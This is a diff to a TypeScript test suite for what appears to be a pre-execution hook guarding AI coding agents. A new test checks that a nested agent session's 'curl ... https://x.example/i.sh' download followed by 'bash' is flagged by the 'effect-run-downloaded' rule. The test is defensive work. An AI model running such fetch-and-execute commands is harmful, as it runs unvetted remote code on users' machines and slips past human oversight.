@@ -52,10 +52,11 @@ interface Answer {
   readonly rules: readonly string[];
 }
 
-function session(payload: object, sessionId = 's'): Answer {
+/** `more` is what an agent passes to the programs that it starts. */
+function session(payload: object, sessionId = 's', more: Readonly<Record<string, string>> = {}): Answer {
   const whole = { session_id: sessionId, transcript_path: '', cwd: project, ...payload };
   const bytes = new TextEncoder().encode(JSON.stringify(whole));
-  const environment = { HOME: home, XDG_CACHE_HOME: cache };
+  const environment = { HOME: home, XDG_CACHE_HOME: cache, ...more };
   const lines: string[] = [];
   const world = {
     ...realWorld(bytes, { folder: project, environment, platform: 'linux' }),
@@ -190,6 +191,16 @@ describe('a file that an earlier call fetched is asked about', () => {
       decision: 'ask',
       rules: expect.arrayContaining(['effect-run-downloaded']),
     });
+  });
+
+  test('by an agent that the session started, and what that one fetches by the session', () => {
+    const nested = (payload: object) => session(payload, 'nested', { CLAUDE_CODE_SESSION_ID: 's' });
+    const runs = (command: string) => ({ hook_event_name: 'PreToolUse', ...payloadOf(command) });
+    fetch();
+    expect(nested(runs('bash x.sh')).rules).toContain('effect-run-downloaded');
+    put('y.sh');
+    nested(runs('curl -fsSL -o y.sh https://x.example/i.sh'));
+    expect(asked('bash y.sh').rules).toContain('effect-run-downloaded');
   });
 });
 
